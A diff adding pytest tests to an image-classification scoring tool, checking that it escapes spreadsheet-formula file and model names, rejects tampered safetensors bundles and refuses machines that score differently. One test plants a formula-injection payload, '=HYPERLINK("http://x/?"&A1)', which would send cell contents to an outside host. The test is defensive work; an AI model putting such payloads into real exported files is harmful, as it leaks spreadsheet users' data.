@@ -3,7 +3,9 @@ import io, json, pickle, shutil, subprocess, sys
 from pathlib import Path
 import numpy as np, pandas as pd, pytest
 from PIL import Image
+from safetensors.numpy import load, save
 from hostile import turned
+from test_bundle import fit, reseal
 from semiconductor_cls.line.bundle import open_bundle
 from semiconductor_cls.base.errors import UserError
 from semiconductor_cls.base.files import read_json
@@ -124,6 +126,33 @@ def test_score_py_without_torch(bundles, tmp_path, which):
             continue
         want = b.score({side:load_image(f, side, b.channels)[None] for side in b.sizes})[0]
         assert abs(score-want)<1e-4, f.name
+
+def test_score_py_takes_only_what_the_library_takes(bundle, tmp_path):
+    "No machine that scores otherwise, no model or picture whose name a spreadsheet runs; a video may follow a picture"
+    Image.new('L', (40,40), 90).save(tmp_path/'phone.jpg')
+    (tmp_path/'phone.jpg').write_bytes((tmp_path/'phone.jpg').read_bytes()+b'\xff\xda'*200)
+    (tmp_path/"'=b.jpg").write_bytes((tmp_path/'phone.jpg').read_bytes())
+    reseal(bundle, lambda m: m.update(name='=HYPERLINK("http://x/?"&A1)'))
+    p = score_py(bundle, 'phone.jpg', "'=b.jpg", cwd=tmp_path)
+    got = pd.read_csv(io.StringIO(p.stdout))
+    assert p.returncode==0 and got.path.tolist()==['phone.jpg',"''=b.jpg"], p.stderr
+    assert got.model.str.startswith("'=HYPERLINK").all()
+    reseal(bundle, lambda m: m.update(selftest=[.99,.01,.99,.01]))
+    p = score_py(bundle, 'phone.jpg', cwd=tmp_path)
+    assert p.returncode==1 and not p.stdout and 'scores otherwise on this machine' in p.stderr
+
+HOSTILE = [(dict(limit=np.float32([np.nan])), 'limit is not'), (dict(side=np.int32([33])), 'pictures of 33 px'),
+           ({'gray.mean':None}, 'gray.mean')]
+
+@pytest.mark.parametrize('change,why', HOSTILE)
+def test_what_a_product_looks_like_is_checked_when_a_bundle_is_opened(bundle, change, why):
+    file = bundle/'unlike.safetensors'
+    arrays = {k:v for k,v in (load(file.read_bytes())|change).items() if v is not None}
+    file.write_bytes(save(arrays))
+    fit(bundle)
+    with pytest.raises(UserError, match=why): open_bundle(bundle)
+    p = score_py(bundle, 'x.png')
+    assert p.returncode==1 and 'is no whole bundle' in p.stderr
 
 def test_score_py_names_a_file_that_differs(bundle):
     weights = bytearray((bundle/'model.bin').read_bytes())
